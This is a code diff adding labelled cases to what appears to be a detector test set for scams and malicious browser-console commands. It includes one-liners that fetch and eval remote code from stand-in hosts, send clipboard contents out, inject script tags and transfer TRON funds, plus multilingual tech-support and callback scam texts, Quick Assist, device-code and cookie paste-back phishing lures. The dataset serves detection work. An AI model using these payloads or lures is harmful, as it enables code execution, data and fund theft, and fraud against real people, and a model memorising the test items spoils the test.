@@ -291,6 +291,232 @@ def runbox(book: Book) -> None:
         book.add("runbox-share-load", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)
 
 
+# ---- browser console -------------------------------------------------------------------------
+CLAIM_PAGE = "https://www.reward-unlock.example/claim"
+DEV_PAGE = "https://developer.web-platform.example/docs/api"
+
+
+def console(book: Book) -> None:
+    lures = {
+        "console-fetched-code-run": (
+            "$.get('https://cdn.unlock-kit.test/p.js', c => jQuery.globalEval(c))",
+            "jQuery.ajax({url: 'https://198.51.100.66/s.js', dataType: 'text'}).done(t => $.globalEval(t))",
+            "fetch('https://boost.stage-relay.invalid/m').then(r => r.text()).then(src => Reflect.construct(Function, [src])())",
+            "fetch('//code.panel-tools.test/x').then(r=>r.text()).then(b=>{const f=Reflect.construct(Function,['',b]);f()})",
+            "const ws = new WebSocket('wss://live.helper-sync.test/c'); ws.onmessage = m => eval(m.data)",
+            "new WebSocket('wss://203.0.113.7:8443/').addEventListener('message', ev => { new Function(ev.data)() })",
+            "WebAssembly.instantiateStreaming(fetch('https://mods.game-boost.test/x.wasm'), {env: {exec: s => eval(s)}})",
+            "WebAssembly.instantiateStreaming(fetch('https://198.51.100.90/core.wasm'), {js: {run(c) { new Function(c)() }}}).then(o => o.instance.exports.start())",
+        ),
+        "console-img-onerror-script": (
+            "document.body.insertAdjacentHTML('beforeend', '<img src=/none onerror=\"let s=document.createElement(`script`);s.src=`https://img-stage.tools-cdn.test/a.js`;document.body.appendChild(s)\">')",
+            "document.getElementById('app').innerHTML = `<img src=x onerror=\"var e=document.createElement('script');e.src='//198.51.100.3/l.js';document.head.appendChild(e)\">`",
+        ),
+        "console-clipboard-sent": (
+            "navigator.clipboard.readText().then(t => fetch('https://collect.clip-sync.test/in', {method: 'POST', body: t}))",
+            "const c = await navigator.clipboard.readText(); new Image().src = 'https://203.0.113.44/p?d=' + encodeURIComponent(c)",
+            "navigator.clipboard.readText().then(x => navigator.sendBeacon('//paste-log.relay.invalid/b', x))",
+        ),
+        "console-tron-transfer": (
+            "tronWeb.trx.sendTransaction('TLs9PqVjWd2Hq7n4zR8cYxK3mB5vA6eGfU', 180000000)",
+            "await tronWeb.trx.sendTrx(\"TXq7r2Nw8KzP3mVb5cYdL4hJ9sA6eFgU1o\", 5e8); alert('Airdrop claimed!')",
+        ),
+    }
+    for technique, texts in lures.items():
+        for text in texts:
+            book.add(technique, text, "malicious", "browser", CONSOLE, CLAIM_PAGE)
+            book.add(technique, text, "flagged", "browser", "unknown")
+    for text in (
+        "const ws = new WebSocket('wss://echo.websocket.example/'); ws.onmessage = e => console.log(e.data)",
+        "ws = new WebSocket('ws://localhost:8080/live'); ws.onmessage = (m) => render(JSON.parse(m.data))",
+        "WebAssembly.instantiateStreaming(fetch('/wasm/add.wasm')).then(({instance}) => console.log(instance.exports.add(2, 3)))",
+        "const {instance} = await WebAssembly.instantiateStreaming(fetch('simple.wasm'), {imports: {log: x => console.log(x)}})",
+        "jQuery.globalEval('var answer = 42;'); console.log(answer)",
+        "$.get('/api/items', data => console.table(data))",
+        "Reflect.construct(Date, [2026, 0, 1])",
+        "const f = Reflect.construct(Function, ['a', 'b', 'return a + b']); f(2, 3)",
+        "navigator.clipboard.readText().then(t => console.log('clipboard:', t))",
+        "navigator.clipboard.writeText(location.href)",
+        'document.body.innerHTML += \'<img src="/logo.png" alt="logo">\'',
+        "tronWeb.trx.getBalance('TLs9PqVjWd2Hq7n4zR8cYxK3mB5vA6eGfU').then(b => console.log(b / 1e6))",
+        "await tronWeb.trx.getTransaction(txid)",
+    ):
+        book.add("console-fetched-code-run", text, "not_flagged", "browser", CONSOLE, DEV_PAGE)
+
+
+# ---- texts: scams, callbacks, paste-backs ----------------------------------------------------
+SCAM_PAGE = "https://alert.pc-guard-notice.invalid/"
+MAIL = "https://mail.inbox-reader.example/message/4471"
+PHONES = ("+1 (888) 555-0143", "+44 20 5550 1187", "0800 555 0190", "+27 21 555 0166")
+
+SUPPORT_SCAMS = {
+    "af": (
+        "WAARSKUWING! Jou rekenaar is geblokkeer omdat spyware gevind is. Moenie jou rekenaar afskakel nie. Skakel Windows-ondersteuning by {p}",
+        "U rekening is opgeskort weens verdagte aktiwiteit. Bel ons tolvry hulplyn {p} om dit te herstel.",
+    ),
+    "et": (
+        "Teie arvuti on blokeeritud: tuvastatud viirus varastab teie paroole. Helistage kohe Windowsi toele {p}",
+        "Teie pangakonto on ajutiselt lukustatud kahtlase tegevuse tõttu. Helista {p}",
+    ),
+    "lt": (
+        "Jūsų kompiuteris užrakintas: aptiktas virusas. Neišjunkite įrenginio ir skambinkite {p}",
+        "Jūsų paskyra buvo užblokuota dėl įtartinos veiklos. Susisiekite su pagalbos linija {p}",
+    ),
+    "lv": (
+        "Jūsu dators ir inficēts! Atklāts vīruss. Neizslēdziet datoru un zvaniet atbalstam {p}",
+        "Jūsu konts tika bloķēts aizdomīgas darbības dēļ. Sazinieties ar mums: {p}",
+    ),
+    "sl": (
+        "Vaš računalnik je okužen z virusom in je zaklenjen. Ne zapirajte te strani, pokličite {p}",
+        "Vaš račun je bil začasno blokiran zaradi sumljive dejavnosti. Pokličite brezplačno številko {p}",
+    ),
+    "sr": (
+        "UPOZORENJE: Vaš računar je zaražen i blokiran. Ne isključujte ga, pozovite podršku {p}",
+        "Ваш рачунар је блокиран. Вирус је откривен. Позовите одмах {p}",
+    ),
+    "ca": (
+        "El vostre ordinador ha estat bloquejat: s'ha detectat un virus. No apagueu l'equip i truqueu al {p}",
+        "Alerta de seguretat! El teu compte ha estat suspès. Contacteu amb el servei tècnic: {p}",
+    ),
+    "sw": (
+        "Kompyuta yako imeambukizwa virusi na imefungwa. Usizime kompyuta. Piga simu {p}",
+        "Akaunti yako imesimamishwa kwa sababu ya shughuli za kutiliwa shaka. Pigia huduma kwa wateja {p}",
+    ),
+    "bn": (
+        "সতর্কতা! আপনার কম্পিউটার হ্যাক হয়েছে এবং ব্লক করা হয়েছে। এখনই কল করুন {p}",
+        "আপনার পিসিতে ভাইরাস ধরা পড়েছে। কম্পিউটার বন্ধ করবেন না, ফোন করুন: {p}",
+    ),
+    "ta": (
+        "எச்சரிக்கை: உங்கள் கணினி பூட்டப்பட்டுள்ளது. உடனே அழைக்கவும் {p}",
+        "உங்கள் கணினியில் வைரஸ் உள்ளது. கணினியை அணைக்க வேண்டாம். தொடர்பு கொள்ளவும்: {p}",
+    ),
+    "ur": (
+        "خبردار! آپ کا کمپیوٹر ہیک ہو گیا ہے۔ فوراً کال کریں {p}",
+        "آپ کے کمپیوٹر میں وائرس ہے، اسے بند نہ کریں۔ ٹول فری نمبر پر رابطہ کریں: {p}",
+    ),
+}
+
+CALLBACKS = (
+    # renewals and purchases disputed by phone (nl, fr, ja)
+    "Uw jaarabonnement McAfee Total Protection is verlengd. Er wordt € 299,99 van uw rekening afgeschreven. Niet akkoord? Bel {p}",
+    "Beste klant, uw bestelling van € 749,00 is geplaatst. Klopt dit niet? Bel direct {p}",
+    "Votre achat de 899,00 € sur Amazon a été approuvé. Si vous n'êtes pas à l'origine de cette commande, appelez le {p}",
+    "Un virement de 2 350,00 € a été enregistré sur votre compte. Si vous n'avez pas fait cette opération, contactez le {p}",
+    "ノートン360の年間プランが自動更新され、¥45,800をお支払いいただきました。お心当たりのない場合は {p} までお電話ください。",
+    # held transactions and wallets (pl, tr)
+    "Wykryto podejrzaną płatność 3 120,00 zł kartą. Płatność została wstrzymana. Zadzwoń do banku: {p}",
+    "Cüzdanınızda yetkisiz işlem tespit edildi: 0,42 BTC. Hemen destek hattını arayın {p}",
+    # pay by phone or lose the service / the parcel (en, it, de, fr, es)
+    "FINAL NOTICE: your gas supply will be disconnected today due to an overdue balance of $286.40. Call {p} to pay and avoid shut-off.",
+    "Your package is held at customs: unpaid duty of £3.15. Call {p} within 24 hours or it will be returned to sender.",
+    "La sua fornitura di luce sarà sospesa oggi per un insoluto di 148,20 €. Chiami subito il numero {p}",
+    "Ihr Paket liegt beim Zoll. Zollgebühr 1,99 € offen. Rufen Sie heute noch an: {p}",
+    "Votre colis est retenu en douane : frais de douane de 2,50 €. Appelez le {p} aujourd'hui.",
+    "Su paquete está retenido en aduana. Tasas de aduana: 1,95 €. Llame hoy al {p}",
+)
+
+GENUINE_MESSAGES = (
+    "Thanks for your order #4471-2209 of $84.20. Questions? Call our customer service at {p}, Mon-Fri 9-5.",
+    "Your electricity bill of $96.12 is due on 14 January. Pay online in your account or call {p}.",
+    "DHL: your parcel 7731-22 is in customs clearance. Duties of €12.40 can be paid online at dhl.example/pay. Questions: {p}",
+    "Uw abonnement is verlengd tot 1 maart. Vragen? Onze klantenservice is bereikbaar op {p}.",
+    "Votre commande de 45,90 € a été expédiée. Service client : {p}",
+    "Il suo pacco arriverà domani. Per informazioni chiami il numero {p}",
+    "Telefon: {p} — Wir sind Montag bis Freitag für Sie da.",
+    "Kontaktirajte nas na {p} radnim danom od 8 do 16 sati.",
+    "Helistage meile {p} tööpäeviti 9-17.",
+    "Skambinkite mums {p} darbo dienomis.",
+    "Piga simu {p} kwa maswali yoyote kuhusu akaunti yako.",
+    "আমাদের অফিসে কল করুন {p} (সকাল ১০টা থেকে সন্ধ্যা ৬টা)।",
+    "Watch out: scammers send texts saying your computer is locked with a virus and a number to call like {p}. Never call it.",
+    "Opozorilo: prevaranti pošiljajo sporočila, da je vaš računalnik zaklenjen. Ne kličite številke {p}.",
+    "Microsoft Support (case #12-5567): our engineer will call you at {p} about your ticket.",
+)
+
+
+def texts(book: Book) -> None:
+    for lang, texts_ in SUPPORT_SCAMS.items():
+        for i, text in enumerate(texts_):
+            p = PHONES[i % len(PHONES)]
+            book.add(f"scam-{lang}", text.format(p=p), "flagged", "any", "unknown", SCAM_PAGE)
+            book.add(f"scam-{lang}", text.format(p=p), "flagged", "any", "unknown")
+    for i, text in enumerate(CALLBACKS):
+        p = PHONES[i % len(PHONES)]
+        book.add("callback", text.format(p=p), "flagged", "any", "unknown", MAIL)
+        book.add("callback", text.format(p=p), "flagged", "any", "other")
+    for text in (
+        "Microsoft Support – ticket 88-1204. Press Ctrl + Win + Q to open Quick Assist, pick 'Get help' and enter the 6-digit code the technician gives you on {p}.",
+        "Amazon support case #5561: open Quick Assist and type the security code our agent reads to you at {p}.",
+    ):
+        book.add(
+            "quick-assist-scam", text.format(p=PHONES[0]), "flagged", "any", "unknown", SCAM_PAGE
+        )
+    for i, text in enumerate(GENUINE_MESSAGES):
+        book.add(
+            "callback",
+            text.format(p=PHONES[i % len(PHONES)]),
+            "not_flagged",
+            "any",
+            "unknown",
+            MAIL,
+        )
+    for text in (
+        "Open Quick Assist (Ctrl + Windows + Q), select 'Help someone' and give the code to the person you are helping.",
+        "To get help from our IT department, open Quick Assist and enter the code from your help desk ticket.",
+    ):
+        book.add("quick-assist-scam", text, "not_flagged", "any", "unknown", ADMIN_DOCS)
+
+
+def paste_backs(book: Book) -> None:
+    for text in (
+        "Letzter Schritt: Kopieren Sie die Adresse aus der Adressleiste und fügen Sie sie unten ein.\nhttp://localhost:8400/callback?code=M.C538_BL2.2.U.c1a7e0f4-9d3b&state=7731",
+        "Bitte fügen Sie die Adresse hier ein: http://127.0.0.1:53682/?code=4f8a1c0e9b7d2a6c5e3f&state=q91",
+        "サインイン後、アドレスバーの URL をコピーしてここに貼り付けてください。\nhttp://localhost:3000/auth?code=0.AXkA7hJ2pQ9rLmN4sWt6Yv&state=a1",
+        "本人確認のため次の URL を貼り付けてください: http://[::1]:8765/cb?code=9d2f7a1c4e8b6d3f0a5c&state=22",
+        "Collez l'adresse complète ici pour terminer : http://[::1]:5173/redirect?code=A1b2C3d4E5f6G7h8I9j0&state=fr",
+    ):
+        book.add(
+            "consentfix-intl",
+            text,
+            "flagged",
+            "any",
+            "unknown",
+            "https://review.doc-share.invalid/sign",
+        )
+    for text in (
+        "AWS account review: open https://device.sso.eu-west-1.amazonaws.com/ and approve code WQLM-TZRP to give the auditor read-only access.",
+        "Billing audit: go to https://d-9067aa11bb.awsapps.com/start/#/device and confirm the code KDPR-XMWT to grant access.",
+    ):
+        book.add(
+            "device-code-aws",
+            text,
+            "flagged",
+            "any",
+            "unknown",
+            "https://portal.cost-audit.invalid/",
+        )
+    for text in (
+        "Your appeal is almost done: press F12, open Application → Cookies, copy the value of sessionid and paste it in the appeal form below.",
+        "To verify the page owner, open DevTools, find the cookie named c_user and send its value to our support agent in the chat.",
+        "Ctrl+Shift+I > Application > Cookies > copy 'li_at' and paste it here to unlock your profile.",
+    ):
+        book.add(
+            "cookie-paste-back",
+            text,
+            "flagged",
+            "any",
+            "unknown",
+            "https://appeal.creator-help.invalid/",
+        )
+    for text in (
+        "Attempting to automatically open the SSO authorization page in your default browser.\nIf the browser does not open or you wish to use a different device to authorize this request, open the following URL:\n\nhttps://device.sso.us-west-2.amazonaws.com/\n\nThen enter the code:\n\nTQWZ-PLKM",
+        "To debug the login, open DevTools > Application > Cookies and check that the sessionid cookie has HttpOnly and SameSite=Lax set.",
+        "Never paste your session cookie into a form or send it to support: anyone who has it is signed in as you.",
+        "The app redirects to http://localhost:8080/callback?code=AUTH_CODE&state=STATE, where your server exchanges the code at the token endpoint.",
+    ):
+        book.add("paste-back", text, "not_flagged", "any", "unknown", DEV_PAGE)
+
+
 def build() -> list[dict[str, str]]:
     book = Book()
     foreign_feed(book)
@@ -300,6 +526,9 @@ def build() -> list[dict[str, str]]:
     credential_prompt(book)
     defender_definitions(book)
     runbox(book)
+    console(book)
+    texts(book)
+    paste_backs(book)
     ids = [c["id"] for c in book.cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
     return book.cases
